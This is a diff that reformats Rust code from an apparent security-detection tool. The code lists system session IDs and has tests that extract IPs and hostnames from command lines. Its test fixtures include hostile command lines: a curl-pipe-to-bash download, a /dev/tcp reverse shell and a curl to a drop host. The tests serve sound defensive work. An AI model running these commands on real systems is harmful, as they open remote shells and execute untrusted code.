@@ -27,7 +27,15 @@ const SESSIONS: [&str; 2] = ["actor.session.uid", "session.uid"];
 
 /// Sessions that every machine has, of the system and its services, and none.
 const SYSTEM_SESSIONS: [&str; 9] = [
-    "0x0", "0x3e7", "0x3e4", "0x3e5", "0", "999", "-", "unset", "4294967295",
+    "0x0",
+    "0x3e7",
+    "0x3e4",
+    "0x3e5",
+    "0",
+    "999",
+    "-",
+    "unset",
+    "4294967295",
 ];
 
 /// Programs that start, or are looked at, for everybody: to share one of them says nothing of
@@ -246,7 +254,10 @@ mod tests {
             ("process.uid", "{A1}"),
             ("process.file.path", "C:\\Windows\\System32\\cmd.exe"),
             ("actor.process.uid", "{B2}"),
-            ("actor.process.file.path", "C:\\Windows\\System32\\services.exe"),
+            (
+                "actor.process.file.path",
+                "C:\\Windows\\System32\\services.exe",
+            ),
             ("actor.session.uid", "0x3E7"),
             ("session.uid", "0x51f2a0"),
             ("process.pid", "77"),
@@ -261,7 +272,10 @@ mod tests {
             ("actor.process.pid", "21480"),
             ("actor.session.uid", "4294967295"),
         ]);
-        assert_eq!(traces_of(&numbered), ["pid web-01/21480", "pid web-01/21500"]);
+        assert_eq!(
+            traces_of(&numbered),
+            ["pid web-01/21480", "pid web-01/21500"]
+        );
         assert!(traces_of(&fields(&[("process.pid", "3")])).is_empty());
         let nothing = fields(&[
             ("device.hostname", "ws-1"),
@@ -277,7 +291,10 @@ mod tests {
                 "sh -c curl -s http://203.0.113.201/x.sh | bash",
                 vec!["203.0.113.201"],
             ),
-            ("bash -i >& /dev/tcp/203.0.113.88/8443 0>&1", vec!["203.0.113.88"]),
+            (
+                "bash -i >& /dev/tcp/203.0.113.88/8443 0>&1",
+                vec!["203.0.113.88"],
+            ),
             (
                 "curl https://drop.example.net:8443/a?b=1.2.3.4.5",
                 vec!["drop.example.net"],
